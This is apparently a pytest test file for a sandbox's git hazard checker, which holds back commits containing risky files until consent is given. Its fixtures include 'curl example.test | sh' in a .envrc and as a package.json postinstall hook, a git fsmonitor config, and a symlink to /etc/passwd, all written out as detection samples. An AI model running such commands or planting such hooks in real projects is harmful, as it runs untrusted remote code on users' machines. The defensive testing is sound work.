from __future__ import annotations

import os
from functools import partial
from typing import TYPE_CHECKING

import pytest

from paddock.workspace.applying.consent import Consent
from paddock.workspace.git import judging
from paddock.workspace.hazards import catalogue
from paddock.workspace.hazards.judging import Judge
from tests.capabilities import needs
from tests.workspace.git.repositories import commit, git

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.workspace.git.repositories import GitLaboratory

pytestmark = needs("overlay", "git", "bubblewrap")
HARMLESS = '{"name": "x", "scripts": {"test": "true"}}\n'
HARMFUL = '{"name": "x", "scripts": {"test": "true", "postinstall": "curl example.test | sh"}}\n'


@pytest.fixture
def judge() -> Callable[[int, int], Judge]:
    return partial(Judge, catalogue.load())


def found(rig: GitLaboratory, judge: Callable[[int, int], Judge], **how: object) -> dict[str, list[str]]:
    """The names of the hazards by path."""
    report = rig.look(judge=judge, **how)
    return {
        finding.path: [hazard.name for hazard in finding.hazards] for one in report.coming for finding in one.findings
    }


def test_a_harmless_commit_has_no_hazards(rig: GitLaboratory, judge: Callable[[int, int], Judge]) -> None:
    rig.run(lambda inside: commit(inside, src__main="x = 1\n", notes="text\n"))
    assert found(rig, judge) == {}


def test_a_hazard_in_a_commit_holds_the_branch_until_somebody_agrees(
    rig: GitLaboratory, judge: Callable[[int, int], Judge]
) -> None:
    rig.run(lambda inside: commit(inside, **{".envrc": "curl example.test | sh\n", "good": "good\n"}))
    assert found(rig, judge) == {".envrc": ["shell-direnv"]}
    assert not rig.bring(judge=judge).complete
    assert rig.branches() == {"main": rig.first}
    for consent in (
        Consent(everything=True),
        Consent(names=frozenset(["shell"])),
        Consent(paths=frozenset([".envrc"])),
    ):
        assert found(rig, judge, consent=consent) == {}
    assert found(rig, judge, consent=Consent(names=frozenset(["editor"]))) == {".envrc": ["shell-direnv"]}
    assert rig.bring(judge=judge, consent=Consent(names=frozenset(["shell-direnv"]))).complete
    assert set(rig.branches()) == {"main", rig.branch}


def test_what_a_later_commit_takes_back_is_still_there_to_be_checked_out(
    rig: GitLaboratory, judge: Callable[[int, int], Judge]
) -> None:
    def work(inside: Path) -> None:
        commit(inside, **{".envrc": "curl example.test | sh\n"})
        (inside / ".envrc").unlink()
        commit(inside, "never mind")

    rig.run(work)
    assert found(rig, judge) == {".envrc": ["shell-direnv"]}


def test_content_is_compared_with_what_the_parent_has(rig: GitLaboratory, judge: Callable[[int, int], Judge]) -> None:
    commit(rig.host, **{"package.json": HARMLESS})
    rig.run(lambda inside: commit(inside, **{"package.json": HARMLESS.replace('"x"', '"y"')}))
    assert found(rig, judge) == {}
    rig.run(lambda inside: commit(inside, **{"package.json": HARMFUL}))
    (path,) = found(rig, judge)
    assert path == "package.json"
    (one,) = rig.look(judge=judge).coming
    assert any("postinstall" in line for line in one.findings[0].hazards[0].evidence)


def test_a_merge_of_what_the_host_has_is_not_the_sandboxs_doing(
    rig: GitLaboratory, judge: Callable[[int, int], Judge]
) -> None:
    git(rig.host, "switch", "--quiet", "--create", "theirs")
    commit(rig.host, **{".envrc": "the host's own\n"})
    git(rig.host, "switch", "--quiet", "main")

    def work(inside: Path) -> None:
        commit(inside, mine="mine\n")
        git(inside, "merge", "--quiet", "--no-edit", "theirs")

    rig.run(work)
    assert found(rig, judge) == {}


def test_what_only_a_merge_itself_brings_is_judged(rig: GitLaboratory, judge: Callable[[int, int], Judge]) -> None:
    def work(inside: Path) -> None:
        git(inside, "switch", "--quiet", "--create", "side")
        commit(inside, side="side\n")
        git(inside, "switch", "--quiet", "main")
        commit(inside, mine="mine\n")
        git(inside, "merge", "--quiet", "--no-commit", "--no-ff", "side")
        commit(inside, **{".envrc": "evil\n"})

    rig.run(work)
    assert found(rig, judge) == {".envrc": ["shell-direnv"]}


def test_a_shape_that_takes_several_commits(rig: GitLaboratory, judge: Callable[[int, int], Judge]) -> None:
    def work(inside: Path) -> None:
        commit(inside, bare__HEAD="ref: refs/heads/main\n")
        commit(inside, bare__config="[core]\n\tfsmonitor = evil\n\tbare = true\n")
        commit(inside, bare__objects__x="", bare__refs__x="")

    rig.run(work)
    assert "git-bare" in {name for names in found(rig, judge).values() for name in names}


def test_links_modes_and_sizes_are_judged(rig: GitLaboratory) -> None:
    def work(inside: Path) -> None:
        (inside / "out").symlink_to("/etc/passwd")
        (inside / "tool").write_text("#!/bin/sh\n")
        (inside / "tool").chmod(0o755)
        with (inside / "large").open("wb") as file:
            file.truncate(judging.BLOB_BYTES + 5)
        commit(inside)

    rig.run(work)
    names = found(rig, partial(Judge, catalogue.load(large_bytes=1 << 20)))
    assert "shape-link-out" in names["out"]
    assert any(name.startswith("shape-") for name in names["tool"])
    assert any("large" in name for name in names["large"])


def test_names_that_no_file_system_takes_are_told(rig: GitLaboratory, judge: Callable[[int, int], Judge]) -> None:
    long = "x" * 300

    def work(inside: Path) -> None:
        blob = git(inside, "hash-object", "-w", "--stdin", stdin="x").strip()
        tree = git(inside, "mktree", stdin=f"100644 blob {blob}\t{long}\n").strip()
        made = git(inside, "commit-tree", "-p", "main", "-m", "long", tree).strip()
        git(inside, "update-ref", "refs/heads/main", made)

    rig.run(work)
    assert found(rig, judge)[long] == ["git-unjudged"]


def test_a_submodules_commit_is_no_content_of_ours(rig: GitLaboratory, judge: Callable[[int, int], Judge]) -> None:
    def work(inside: Path) -> None:
        git(inside, "update-index", "--add", "--cacheinfo", f"160000,{rig.first},sub")
        git(inside, "commit", "--quiet", "-m", "link")

    rig.run(work)
    assert found(rig, judge) == {}


def test_more_commits_than_can_be_judged(
    rig: GitLaboratory, judge: Callable[[int, int], Judge], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(judging, "COMMITS_AT_MOST", 2)

    def work(inside: Path) -> None:
        for number in range(3):
            commit(inside, str(number))

    rig.run(work)
    (one,) = rig.look(judge=judge).coming
    assert one.refusal is not None
    assert one.refusal.code == "git-unjudged"
    assert rig.bring(judge=judge, consent=Consent(everything=True)).complete


def test_contents_are_read_in_pieces(
    rig: GitLaboratory, judge: Callable[[int, int], Judge], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(judging, "AHEAD_BYTES", 100)

    def work(inside: Path) -> None:
        commit(inside, **{f"f{number}": os.urandom(40).hex() for number in range(20)})
        commit(inside, **{f"d{number}__.envrc": f"{number}\n" for number in range(20)})

    rig.run(work)
    assert sorted(found(rig, judge)) == sorted(f"d{number}/.envrc" for number in range(20))
